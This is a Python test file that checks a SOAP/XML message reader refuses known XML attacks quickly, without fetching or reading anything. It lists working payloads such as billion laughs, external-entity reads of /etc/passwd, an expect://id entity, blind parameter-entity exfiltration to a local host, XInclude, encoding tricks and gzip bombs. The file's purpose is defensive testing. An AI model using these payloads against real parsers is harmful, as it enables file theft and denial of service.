"""The well-known attacks by XML, each as a whole request: refused, quickly, with nothing fetched or read."""

import base64
import gzip
import subprocess
import sys
import time
import zlib
from pathlib import Path

import pytest

from cas.soap.envelope import recognise
from cas.soap.errors import MessageRefused, NotSoap
from cas.soap.message import read_message
from cas.soap.schema import Validator
from cas.xml import MOST_TAGS, XmlError, parse_folded
from tests.soap_messages import MES, SOAP12, create, request

LIMIT = 10_000_000
SECONDS = 10.0
"""Of the processor: the machine may be busy with others."""
VALIDATOR = Validator()
CANARY = "canary-in-a-file"
GOOD = create(["M1"]).decode()


def read(octets: bytes) -> None:
    """What the door does with the octets of a request."""
    read_message(recognise(parse_folded(octets)).body, VALIDATOR, limit=LIMIT, strict=False)


def dtd(declarations: str, use: str = "&x;") -> str:
    return f"<!DOCTYPE a [{declarations}]>{GOOD.replace('M1', use)}"


def laughs(levels: int = 10) -> str:
    entities = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, levels))
    return dtd(f'<!ENTITY l0 "lol">{entities}', f"&l{levels - 1};")


def in_device_id(value: str) -> str:
    return GOOD.replace('DeviceID="M1"', f'DeviceID="{value}"')


def after_header(text: str) -> str:
    return GOOD.replace("<mes:Payload>", f"{text}<mes:Payload>")


def scopes(levels: int, names: int) -> str:
    declarations = [" ".join(f"xmlns:n{n}='u{level}'" for n in range(names)) for level in range(levels)]
    return "".join(f"<a {each}>" for each in declarations) + "<n1:b/>" * 100_000 + "</a>" * levels


def nested(levels: int) -> str:
    data = "<cos:array>" * levels + "<cos:null-data/>" + "</cos:array>" * levels
    return create(["M1"], [f"<cos:set-request>{data}</cos:set-request>"]).decode()


DOCUMENTS = {
    "billion laughs": laughs(),
    "billion laughs in an attribute": dtd(laughs()[13:].partition("]>")[0], "&l9;"),
    "quadratic blowup": dtd(f'<!ENTITY x "{"x" * 50_000}">', "&x;" * 50_000),
    "recursive entities": dtd('<!ENTITY x "&y;"><!ENTITY y "&x;">'),
    "external entity, file": dtd('<!ENTITY x SYSTEM "file:///etc/passwd">'),
    "external entity, device": dtd('<!ENTITY x SYSTEM "file:///dev/random">'),
    "external entity, http": dtd('<!ENTITY x SYSTEM "http://127.0.0.1:1/x">'),
    "external entity, ftp": dtd('<!ENTITY x SYSTEM "ftp://127.0.0.1:1/x">'),
    "external entity, expect": dtd('<!ENTITY x SYSTEM "expect://id">'),
    "external entity, public": dtd('<!ENTITY x PUBLIC "-//x" "http://127.0.0.1:1/x">'),
    "external subset": f'<!DOCTYPE a SYSTEM "http://127.0.0.1:1/evil.dtd">{GOOD}',
    "parameter entity": dtd('<!ENTITY % p SYSTEM "http://127.0.0.1:1/evil.dtd">%p;'),
    "parameter entity, blind": dtd(
        '<!ENTITY % f SYSTEM "file:///etc/passwd"><!ENTITY % e "<!ENTITY x SYSTEM \'http://127.0.0.1:1/?%f;\'>">%e;'
    ),
    "default attributes": dtd('<!ATTLIST dev:DeviceReference DeviceID CDATA "M1">'),
    "unused internal subset": dtd('<!ENTITY x "y">', "M1"),
    "empty doctype": f"<!DOCTYPE a>{GOOD}",
    "doctype after a comment": f"<!-- --><!DOCTYPE a>{GOOD}",
    "doctype after an instruction": f"<?x y?>\n<!DOCTYPE a [<!ENTITY x 'y'>]>{GOOD}",
    "undeclared entity": in_device_id("&x;"),
    "reference to NUL": in_device_id("&#0;"),
    "reference to a surrogate": in_device_id("&#xD800;"),
    "reference beyond Unicode": in_device_id("&#x110000;"),
    "xinclude": after_header(
        '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="/etc/passwd" parse="text"/>'
    ),
    "stylesheet": f'<?xml-stylesheet type="text/xsl" href="http://127.0.0.1:1/x.xsl"?>{after_header("<x/>")}',
    "schema location": GOOD.replace(
        "<mes:RequestMessage>",
        '<mes:RequestMessage xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="http://x '
        'http://127.0.0.1:1/x.xsd" xsi:type="x:y" xmlns:x="http://x">',
    ),
    "deep": GOOD.replace("<mes:Payload>", "<a>" * 100_000),
    "deep and closed": after_header("<a>" * 5000 + "</a>" * 5000),
    "deep COSEM data": nested(240),
    "a huge attribute": after_header(f'<a b="{"x" * 9_000_000}"/>'),
    "a huge name": after_header(f"<{'x' * 9_000_000}/>"),
    "a huge text": after_header(f"<a>{'x' * 9_000_000}</a>"),
    "many attributes": after_header("<a " + " ".join(f"b{n}=''" for n in range(400_000)) + "/>"),
    "too many attributes": after_header("<a " + " ".join(f"b{n}=''" for n in range(MOST_TAGS + 1)) + "/>"),
    "an attribute twice": after_header("<a b='' b=''/>"),
    "many namespaces": after_header("<a " + " ".join(f"xmlns:n{n}='u'" for n in range(300_000)) + "/>"),
    "too many namespaces in scope": after_header(scopes(200, 500)),
    "as many namespaces in scope as may be": after_header(scopes(199, 50)),
    "many elements": after_header("<a/>" * 400_000),
    "too many elements": after_header("<a/>" * (MOST_TAGS + 1)),
    "many cdata": after_header("<a>" + "<![CDATA[x]]>" * 400_000 + "</a>"),
    "cdata that hides markup": after_header("<![CDATA[<mes:Payload/>]]>"),
    "many comments": after_header("<!---->" * 400_000 + "<a/>"),
    "many instructions": after_header("<?a?>" * 400_000 + "<a/>"),
    "many references": after_header("<a>" + "&#65;" * 1_000_000 + "</a>"),
    "wrapped twice": GOOD.replace("soap:Body>", "soap:Body><soap:Body>", 1).replace("</soap:B", "</soap:Body></soap:B"),
    "two bodies": GOOD.replace("<soap:Body>", "<soap:Body/><soap:Body>"),
    "two messages": GOOD.replace("</mes:RequestMessage>", "</mes:RequestMessage><mes:RequestMessage/>"),
    "xml 1.1": f'<?xml version="1.1"?>{in_device_id("&#1;")}',
    "not closed": GOOD[:-20],
    "something behind": f"{GOOD}<a/>",
    "nothing": "",
}  # fmt: skip


@pytest.mark.parametrize("name", DOCUMENTS)
def test_a_document_that_attacks_is_refused_quickly(name: str) -> None:
    began = time.process_time()
    with pytest.raises((XmlError, NotSoap, MessageRefused)) as caught:
        read(DOCUMENTS[name].encode())
    assert time.process_time() - began < SECONDS
    assert "root:" not in str(caught.value)
    assert len(str(caught.value)) < 100_000


ENCODED = {
    f"{name} in {encoding}": DOCUMENTS[name].encode(encoding)
    for name in ("billion laughs", "external entity, file", "empty doctype", "parameter entity")
    for encoding in (
        "utf-7",
        "utf-8-sig",
        "utf-16",
        "utf-16-le",
        "utf-16-be",
        "utf-32",
        "utf-32-le",
        "utf-32-be",
        "cp037",
    )
} | {
    "utf-7, declared": b'<?xml version="1.0" encoding="UTF-7"?>'
    + "<!DOCTYPE a [<!ENTITY x SYSTEM 'file:///etc/passwd'>]>".encode("utf-7")
    + GOOD.encode("utf-7"),
    "ebcdic, declared": f'<?xml version="1.0" encoding="cp037"?>{DOCUMENTS["empty doctype"]}'.encode("cp037"),
    "utf-16 said, utf-8 written": f'<?xml version="1.0" encoding="utf-16"?>{DOCUMENTS["empty doctype"]}'.encode(),
    "utf-8 said, utf-16 written": f'<?xml version="1.0" encoding="utf-8"?>{DOCUMENTS["empty doctype"]}'.encode(
        "utf-16"
    ),
    "overlong": DOCUMENTS["empty doctype"].encode().replace(b"<!D", b"\xc0\xbc!D"),
    "broken": GOOD.encode().replace(b"M1", b"\xff\xfe"),
    "a surrogate": GOOD.encode().replace(b"M1", b"\xed\xa0\x80"),
}


@pytest.mark.parametrize("name", ENCODED)
def test_no_encoding_hides_it(name: str) -> None:
    with pytest.raises((XmlError, NotSoap)):
        read(ENCODED[name])


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "utf-16", "utf-16-le", "utf-16-be", "iso-8859-1", "ascii"])
def test_the_usual_encodings_are_read(encoding: str) -> None:
    said = encoding.replace("-sig", "").replace("-le", "").replace("-be", "")
    read(f'<?xml version="1.0" encoding="{said}"?>{GOOD}'.encode(encoding))


# ---------------------------------------------------------------- Compressed


def compressed(octets: bytes) -> bytes:
    packed = base64.b64encode(octets).decode()
    return request("create", f"<mes:Payload><mes:Compressed>{packed}</mes:Compressed></mes:Payload>")


INNER = (
    GOOD.partition("<mes:Payload>")[2]
    .partition("</mes:Payload>")[0]
    .replace("<mes:DeviceAccess>", f'<mes:DeviceAccess xmlns:mes="{MES}">', 1)
)
PAYLOAD = (
    f'<mes:Payload xmlns:mes="{MES}" xmlns:dev="http://iec.ch/TC13/2014/schema/DeviceAccess" '
    f'xmlns:cos="http://www.dlms.com/COSEMpdu">{INNER}</mes:Payload>'
).encode()


def zipped_zip() -> bytes:
    return gzip.compress(gzip.compress(bytes(50_000_000)))


BOMBS = {
    "a bomb": gzip.compress(b" " * 100_000_000 + PAYLOAD),
    "a bomb in small pieces": gzip.compress(bytes(100_000)) * 1000,
    "a bomb of elements": gzip.compress(b"<a>" + b"<b/>" * 2_000_000 + b"</a>"),
    "a zip in a zip": zipped_zip(),
    "an entity": gzip.compress(b"<!DOCTYPE a [<!ENTITY x 'y'>]><a>&x;</a>"),
    "an entity in utf-16": gzip.compress("<!DOCTYPE a [<!ENTITY x 'y'>]><a>&x;</a>".encode("utf-16")),
    "cut off": gzip.compress(PAYLOAD)[:-9],
    "zlib": zlib.compress(PAYLOAD),
    "a wrong checksum": gzip.compress(PAYLOAD)[:-8] + bytes(8),
    "a long name": b"\x1f\x8b\x08\x08" + bytes(6) + b"x" * 1_000_000,
    "no gzip": PAYLOAD,
    "nothing": b"",
}


@pytest.mark.parametrize("name", BOMBS)
def test_a_compressed_payload_that_attacks_is_refused_quickly(name: str) -> None:
    began = time.process_time()
    with pytest.raises((XmlError, NotSoap, MessageRefused)):
        read(compressed(BOMBS[name]))
    assert time.process_time() - began < SECONDS


def test_a_compressed_payload_is_read() -> None:
    read(compressed(gzip.compress(PAYLOAD)))


def test_compressed_within_compressed_is_not_unpacked_again() -> None:
    inner = f'<mes:Compressed xmlns:mes="{MES}">{base64.b64encode(gzip.compress(PAYLOAD)).decode()}</mes:Compressed>'
    body = recognise(parse_folded(compressed(gzip.compress(inner.encode())))).body
    assert read_message(body, VALIDATOR, limit=LIMIT, strict=False).noun is None


# ---------------------------------------------------------------- what is not done

PROBE = """
import resource, sys
from tests.unit.security.test_xml_attacks import BOMBS, DOCUMENTS, compressed, read
before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
def audit(event, arguments):
    if event in ("socket.connect", "socket.getaddrinfo", "subprocess.Popen"):
        print("DONE", event, arguments)
sys.addaudithook(audit)
for octets in [*(text.encode() for text in DOCUMENTS.values()), *(compressed(bomb) for bomb in BOMBS.values())]:
    try:
        read(octets)
    except Exception:
        pass
print("GREW", (resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before) // 1024)
"""


def test_no_attack_takes_much_memory_or_connects_anywhere() -> None:
    done = subprocess.run(
        [sys.executable, "-c", PROBE], capture_output=True, text=True, check=True, cwd=Path(__file__).parents[3]
    )
    assert "DONE" not in done.stdout
    assert int(done.stdout.rpartition("GREW ")[2]) < 600


def test_a_file_is_never_read(tmp_path: Path) -> None:
    (tmp_path / "secret").write_text(CANARY)
    (tmp_path / "evil.dtd").write_text(f'<!ENTITY x "{CANARY}">')
    location = tmp_path.as_uri()
    for text in (
        dtd(f'<!ENTITY x SYSTEM "{location}/secret">'),
        dtd(f'<!ENTITY % p SYSTEM "{location}/evil.dtd">%p;'),
        f'<!DOCTYPE a SYSTEM "{location}/evil.dtd">{in_device_id("&x;")}',
    ):
        with pytest.raises(XmlError) as caught:
            read(text.encode())
        assert CANARY not in str(caught.value)


def test_the_good_document_of_these_tests_is_good() -> None:
    assert SOAP12 in GOOD
    read(GOOD.encode())
